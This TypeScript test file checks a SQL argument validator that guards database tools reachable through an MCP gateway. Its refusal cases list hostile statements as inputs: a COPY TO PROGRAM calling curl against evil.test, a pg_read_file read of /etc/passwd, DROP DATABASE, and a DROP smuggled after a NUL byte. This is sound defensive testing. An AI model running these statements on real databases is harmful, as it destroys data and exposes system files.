import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mcpDoorSchema } from './door-config.js';
import { sqlArgumentsFor, type SqlArguments } from './sql-arguments.js';
import { validateArguments, validateSqlArguments } from './validators.js';

const config = (allow?: string[], extra: Record<string, unknown> = {}) => mcpDoorSchema.parse({ validators: [{ tools: ['db__execute_sql', 'pg__query'], sql: { arguments: ['sql', 'query'], ...(allow ? { allow } : {}), ...extra } }] }).validators;
const readOnly = config();
const readWrite = config(['read', 'transaction', 'write']);

let sql: SqlArguments;
before(async () => {
  sql = sqlArgumentsFor(readOnly)!;
  await sql.pending();
  assert.equal(sql.pending(), undefined, 'loaded: no more waiting');
});

const check = (text: unknown, v = readOnly, tool = 'db__execute_sql') => validateArguments(tool, { sql: text }, 100, v, 1 << 20, sql);
const refused = (text: unknown, re: RegExp, v = readOnly) =>
  assert.throws(
    () => check(text, v),
    (e: any) => e.code === 'WARDEN_E_MCP_ARGUMENT_REFUSED' && e.rule === 'mcp.validators.sql' && re.test(e.message),
    String(text),
  );

test('no sql validator configured: no checker, nothing loaded for it', () => {
  assert.equal(sqlArgumentsFor(mcpDoorSchema.parse({ validators: [{ tools: ['fs__*'], max_argument_bytes: 10 }] }).validators), undefined);
});

test('allow defaults to [read]; blocked cannot be allowed; unknown effects are a config error', () => {
  assert.deepEqual(readOnly[0]!.sql!.allow, ['read']);
  assert.throws(() => config(['read', 'blocked']));
  assert.throws(() => config(['reads']));
});

test('read statements pass under allow [read]', () => {
  for (const text of ['SELECT 1', 'select id, name from users where id = 3', 'WITH t AS (SELECT 1 AS x) SELECT x FROM t', 'EXPLAIN SELECT * FROM orders', 'SELECT 1; SELECT 2', '']) check(text);
});

test('refusals under allow [read], each naming the effect and why', () => {
  const table: [string, RegExp][] = [
    ['SELECT 1; DROP TABLE x', /statement 2 of 2 \(drop_table\) has the effect "ddl".*allows read/],
    ['WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone', /\(delete\) has the effect "write"/],
    ['EXPLAIN ANALYZE DELETE FROM users', /\(delete\) has the effect "write" \(it contains delete within explain_analyze\)/],
    ["COPY users TO PROGRAM 'curl http://evil.test'", /\(copy_program\) is always blocked: COPY TO PROGRAM runs a shell command/],
    ["SELECT pg_read_file('/etc/passwd')", /always blocked: pg_read_file\(\)/],
    ['DROP DATABASE test', /\(drop_database\) is always blocked/],
    ["ALTER SYSTEM SET wal_level = 'minimal'", /\(alter_system\) is always blocked/],
    ['SELEC * FROM users', /does not parse/],
    ['SELECT 1\u0000; DROP DATABASE x', /NUL byte/],
    ['UPDATE users SET admin = true', /\(update\) has the effect "write"/],
    ['SELECT * FROM users FOR UPDATE', /has the effect "write"/],
    ['BEGIN', /has the effect "transaction"/],
  ];
  for (const [text, re] of table) refused(text, re);
  refused(42, /must be SQL text/);
  refused(['SELECT 1', 'DELETE FROM users'], /has the effect "write"/);
});

test('the most consequential statement of a batch is the one named', () => {
  refused("INSERT INTO t VALUES (1); DROP TABLE t; SELECT pg_read_file('/etc/passwd')", /statement 3 of 3 .*always blocked/, readWrite);
  refused('INSERT INTO t VALUES (1); CREATE TABLE u (id int)', /statement 2 of 2 \(create\) has the effect "ddl"/, readWrite);
});

test('write allowed when configured; the always-blocked list still refused', () => {
  for (const text of ['INSERT INTO t VALUES (1)', 'BEGIN; UPDATE t SET a = 1; COMMIT', 'WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone', 'SELECT 1']) check(text, readWrite);
  refused("COPY t FROM PROGRAM 'id'", /always blocked/, readWrite);
  refused('DROP DATABASE test', /always blocked/, readWrite);
  refused('TRUNCATE t; DROP TABLE t', /"ddl"/, readWrite);
});

test('only the named tools and arguments are checked; the other argument name counts too', () => {
  validateArguments('db__other_tool', { sql: 'DROP TABLE x' }, 100, readOnly, 1 << 20, sql);
  validateArguments('db__execute_sql', { comment: 'DROP TABLE x' }, 100, readOnly, 1 << 20, sql);
  assert.throws(() => validateArguments('pg__query', { query: 'DROP TABLE x' }, 100, readOnly, 1 << 20, sql), /argument "query" is refused/);
});

test('size bound of the SQL text', () => {
  const small = config(['read'], { max_bytes: 64 });
  refused(`SELECT ${'1,'.repeat(60)}1`, /more than the 64 bytes/, small);
  check('SELECT 1', small);
});

test('fail closed: a SQL validator without a checker refuses', () => {
  assert.throws(() => validateSqlArguments('db__execute_sql', { sql: 'SELECT 1' }, readOnly, undefined), (e: any) => e.code === 'WARDEN_E_MCP_ARGUMENT_REFUSED' && /cannot be checked/.test(e.message));
});
